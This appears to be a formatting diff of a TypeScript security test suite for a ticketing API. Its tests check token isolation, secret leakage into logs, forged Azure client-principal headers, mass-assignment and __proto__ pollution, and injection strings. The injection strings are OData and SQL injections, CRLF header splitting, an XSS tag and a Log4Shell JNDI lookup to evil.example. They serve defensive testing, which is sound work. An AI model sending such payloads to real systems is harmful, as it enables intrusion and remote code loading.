@@ -28,7 +28,10 @@ afterEach(() => {
   const logs = [...t.logs, ...output.lines].join('\n');
   for (const secret of [...issuedTokens, OPS_KEY, storageKeyOf(t)]) {
     expect(logs.includes(secret), 'a secret in the logs').toBe(false);
-    expect(responses.filter((r) => r.includes(secret)).map((r) => r.slice(0, 300)), 'a secret in a response').toEqual([]);
+    expect(
+      responses.filter((r) => r.includes(secret)).map((r) => r.slice(0, 300)),
+      'a secret in a response',
+    ).toEqual([]);
   }
 });
 
@@ -50,7 +53,13 @@ async function submit(): Promise<{ confirmationNumber: string; accessToken: stri
 }
 
 const forgedPrincipal = Buffer.from(
-  JSON.stringify({ auth_typ: 'aad', claims: [{ typ: 'roles', val: 'Tickets.Triage' }, { typ: 'http://schemas.microsoft.com/ws/2008/06/identity/claims/role', val: 'Tickets.Triage' }] }),
+  JSON.stringify({
+    auth_typ: 'aad',
+    claims: [
+      { typ: 'roles', val: 'Tickets.Triage' },
+      { typ: 'http://schemas.microsoft.com/ws/2008/06/identity/claims/role', val: 'Tickets.Triage' },
+    ],
+  }),
 ).toString('base64');
 
 describe("a reporter's token", () => {
@@ -61,7 +70,10 @@ describe("a reporter's token", () => {
     expect((await call(other, { headers: { authorization: `Bearer ${mine.accessToken}` } })).status).toBe(404);
     expect((await call(`${other}?token=${encodeURIComponent(mine.accessToken)}`)).status).toBe(404);
     expect((await call(`${other}?token=${encodeURIComponent(mine.accessToken)}`, { headers: { accept: 'text/html' } })).status).toBe(404);
-    for (const [action, body] of [['acknowledge', { priority: 'p1', severity: 'low' }], ['status', { status: 'resolved', outcome: 'no-action' }]] as const) {
+    for (const [action, body] of [
+      ['acknowledge', { priority: 'p1', severity: 'low' }],
+      ['status', { status: 'resolved', outcome: 'no-action' }],
+    ] as const) {
       for (const ticket of [mine, theirs]) {
         const res = await call(`/api/tickets/${ticket.confirmationNumber}/${action}`, {
           method: 'POST',
@@ -83,7 +95,9 @@ describe('a forged x-ms-client-principal while App Service Authentication is off
     const headers = { 'x-ms-client-principal': forgedPrincipal, 'x-ms-client-principal-idp': 'aad', 'content-type': 'application/json' };
     expect((await call(`/api/tickets/${n}`, { headers })).status).toBe(401);
     expect((await call('/api/ops/tickets', { headers })).status).toBe(401);
-    expect((await call(`/api/tickets/${n}/acknowledge`, { method: 'POST', headers, body: JSON.stringify({ priority: 'p1', severity: 'low' }) })).status).toBe(401);
+    expect((await call(`/api/tickets/${n}/acknowledge`, { method: 'POST', headers, body: JSON.stringify({ priority: 'p1', severity: 'low' }) })).status).toBe(
+      401,
+    );
   });
 });
 
@@ -106,7 +120,11 @@ describe('the submit endpoint', () => {
   for (const [field, value] of Object.entries(notOwned)) {
     it(`refuses ${field} (400, nothing stored)`, async () => {
       const body = JSON.stringify({ ...aSubmission(), [field]: value }).replace('"__proto__"', '"__proto__"');
-      const res = await call('/api/tickets', { method: 'POST', headers: { 'content-type': 'application/json' }, body: field === '__proto__' ? body.replace(/}$/, ',"__proto__":{"status":"resolved"}}') : body });
+      const res = await call('/api/tickets', {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: field === '__proto__' ? body.replace(/}$/, ',"__proto__":{"status":"resolved"}}') : body,
+      });
       expect(res.status).toBe(400);
       expect(res.headers.get('content-type')).toContain('application/problem+json');
     });
@@ -114,11 +132,19 @@ describe('the submit endpoint', () => {
 
   it('refuses unknown fields nested in the objects it owns, and as form fields', async () => {
     for (const nested of [{ reporter: { role: 'operator' } }, { mitigation: { status: 'resolved' } }, { customerNotification: { priority: 'p1' } }]) {
-      expect((await call('/api/tickets', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(aSubmission(nested)) })).status).toBe(400);
+      expect(
+        (await call('/api/tickets', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(aSubmission(nested)) })).status,
+      ).toBe(400);
     }
     const form = new URLSearchParams([
-      ['category', 'incident'], ['offerId', 'contoso-firewall'], ['summary', 'A summary long enough'], ['description', 'Something'],
-      ['reporter.name', 'Ada'], ['reporter.email', 'ada@contoso.example'], ['status', 'resolved'], ['priority', 'p1'],
+      ['category', 'incident'],
+      ['offerId', 'contoso-firewall'],
+      ['summary', 'A summary long enough'],
+      ['description', 'Something'],
+      ['reporter.name', 'Ada'],
+      ['reporter.email', 'ada@contoso.example'],
+      ['status', 'resolved'],
+      ['priority', 'p1'],
     ]);
     const res = await call('/api/tickets', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: form.toString() });
     expect(res.status).toBe(400);
@@ -128,7 +154,15 @@ describe('the submit endpoint', () => {
 const singleLine = (s: string) => s.replace(/[\u2028\u2029]/g, ' ');
 
 describe('injection strings', () => {
-  const odata = ["' or 1 eq 1 or '", "x' or PartitionKey ne '", "') or true or ('", '%27%20or%201%20eq%201', "SE-' or RowKey gt '", '$filter=true', "'; drop table tickets; --"];
+  const odata = [
+    "' or 1 eq 1 or '",
+    "x' or PartitionKey ne '",
+    "') or true or ('",
+    '%27%20or%201%20eq%201',
+    "SE-' or RowKey gt '",
+    '$filter=true',
+    "'; drop table tickets; --",
+  ];
   const headerish = ['x\u2028Set-Cookie: a=b', 'x%0d%0aSet-Cookie: a=b', '\\r\\nSet-Cookie: a=b', '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}'];
   const strings = [...odata, ...headerish];
 
